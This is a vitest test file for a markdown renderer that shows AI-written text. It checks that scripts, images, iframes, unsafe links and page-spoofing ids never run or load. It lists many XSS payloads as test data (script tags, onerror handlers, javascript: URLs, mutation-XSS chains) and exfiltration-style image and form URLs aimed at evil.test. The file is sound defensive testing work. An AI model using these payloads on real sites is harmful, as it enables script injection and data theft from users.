// @vitest-environment jsdom
/** What the model wrote is data: it may say anything, and none of it runs, loads or hides where it leads. */

import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { isPlace, render, safeHref, sanitize } from '../../src/markdown/render'
import { split } from '../../src/markdown/split'

function shown(text: string, growing = false): HTMLElement {
  const body = document.createElement('div')
  for (const block of split(text, !growing).blocks) body.append(render(block, growing))
  return body
}

/** Everything that could run, load, or look like the page's own. */
function dangers(body: HTMLElement): string[] {
  const found: string[] = []
  for (const element of body.querySelectorAll('*')) {
    const name = element.localName
    if (['script', 'img', 'iframe', 'object', 'embed', 'style', 'form', 'input', 'svg', 'math', 'video', 'audio', 'base', 'meta', 'link', 'textarea'].includes(name)) found.push(name)
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith('on') || attribute === 'style' || attribute === 'id' || attribute === 'src' || attribute === 'srcset') found.push(`${name}[${attribute}]`)
      if (attribute === 'href' && !/^(?:https?|mailto):/.test(value)) found.push(`${name}[href=${value}]`)
    }
  }
  return found
}

describe('nothing runs and nothing loads', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <img src="https://evil.test/?q=secret"> b',
    '![x](https://evil.test/pic.png?q=secret)',
    '![x][y]\n\n[y]: https://evil.test/pic.png',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<style>*{background:url(https://evil.test)}</style>',
    '<form action="https://evil.test"><input name=x></form>',
    '`<img src=x onerror=alert(1)>`',
    '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
    '[<img src=x onerror=alert(1)>](https://a.test "\"><script>alert(1)</script>")',
    '<div id="page">not yours</div>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ])('%s', (text) => expect(dangers(shown(text))).toEqual([]))

  test('whatever the pieces', () => {
    const piece = fc.constantFrom('<script>', '</script>', '<img src=x onerror=a>', '![', '](', ')', '[', ']', 'javascript:', '"', "'", '>', '<', '`', '```', '\n', '| ', '<svg/onload=a>', 'href=', '&#x', '\u0000', 'x', ' ', '<!--', '-->', '<a href="javascript:a">', '<style>', '<math>')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => void expect(dangers(shown(pieces.join('')))).toEqual([])),
      { numRuns: 400 },
    )
  })

  test('control: markup that is not sanitised is found', () => {
    const body = document.createElement('div')
    body.innerHTML = '<img src=x onerror=alert(1)>'
    expect(dangers(body)).not.toEqual([])
    body.replaceChildren(sanitize('<img src=x onerror=alert(1)><p onclick=x>y</p>'))
    expect(dangers(body)).toEqual([])
  })
})

describe('what is shown', () => {
  test('HTML as the text that it is', () => expect(shown('say <b>x</b> <script>y</script>').textContent).toContain('<b>x</b> <script>y</script>'))

  test('where a link leads, unless its words say so', () => {
    const [hidden, open] = shown('[the docs](https://example.org/a) and <https://example.org/b>').querySelectorAll('a')
    expect(hidden!.textContent).toBe('the docs (example.org)')
    expect(open!.textContent).toBe('https://example.org/b')
    expect(hidden!.rel).toContain('noopener')
    expect(hidden!.target).toBe('_blank')
  })

  test('a link whose words name another host still says where it leads', () => {
    expect(shown('[https://bank.test](https://evil.test/)').textContent).toContain('(evil.test)')
  })

  test('an image as a link', () => expect(shown('![a cat](https://a.test/cat.png)').textContent).toContain('image: a cat (a.test)'))

  test('a link into the code base as its path', () => {
    const body = shown('[the sweeper](src/sweeper.py)')
    expect(body.querySelector('a')).toBeNull()
    expect(body.textContent).toContain('src/sweeper.py')
  })

  test('places as something to press', () => {
    const place = shown('See `src/app.py:12-20`.').querySelector<HTMLElement>('.place')!
    expect(place.dataset['place']).toBe('src/app.py:12-20')
    expect(place.getAttribute('role')).toBe('button')
    expect(place.tabIndex).toBe(0)
  })

  test('code with its language and a copy button, nested too', () => {
    const body = shown('```py\nx = 1\n```\n\n- in a list:\n  ```sh\n  ls\n  ```')
    const figures = [...body.querySelectorAll('figure.code')]
    expect(figures.map((figure) => figure.querySelector('figcaption span')!.textContent)).toEqual(['py', 'sh'])
    expect(figures.map((figure) => figure.querySelector('code')!.textContent.trim())).toEqual(['x = 1', 'ls'])
    expect(body.querySelectorAll('figcaption button')).toHaveLength(2)
  })

  test('columns as they are aligned', () => expect(shown('| a |\n|--:|\n| 1 |').querySelector('td')!.getAttribute('align')).toBe('right'))

  test('headings below those of the page', () => expect([...shown('# a\n\n## b\n\n### c\n\n###### d').querySelectorAll('*')].map((e) => e.localName)).toEqual(['h3', 'h3', 'h4', 'h6']))
})

describe('colours', () => {
  let highlight: (text: string, language: string) => Promise<DocumentFragment | null>
  beforeAll(async () => ({ highlight } = await import('../../src/markdown/highlight')))

  test.each(['py', 'ts', 'sh', 'json', 'yaml', 'go', 'rust', 'html', 'toml', 'c++'])('%s', async (language) => {
    const text = 'if x == "<img src=x onerror=a>" # 1\n'
    const nodes = await highlight(text, language)
    expect(nodes?.textContent).toBe(text)
    expect(nodes?.querySelectorAll('img').length).toBe(0)
  })

  test.each(['nonsense', 'constructor', '__proto__'])('%s is left plain', async (language) => expect(await highlight('x', language)).toBeNull())
})

test.each([
  ['src/app.py:12', true],
  ['src/app.py:12-20', true],
  ['app.py:1', true],
  ['Makefile:3', true],
  ['.github/workflows/ci.yml:3', true],
  ['localhost:8000', false],
  ['127.0.0.1:8000', false],
  ['12:30', false],
  ['http://a.b:80', false],
  ['a b.py:3', false],
  ['key: 3', false],
])('%s is a place: %s', (text, place) => expect(isPlace(text)).toBe(place))

test.each([
  ['https://a.b', true],
  ['mailto:a@b.c', true],
  ['javascript:alert(1)', false],
  ['src/x.py', false],
  ['//evil.test', false],
  ['file:///etc/passwd', false],
])('%s may be a link: %s', (href, safe) => expect(safeHref(href) !== null).toBe(safe))
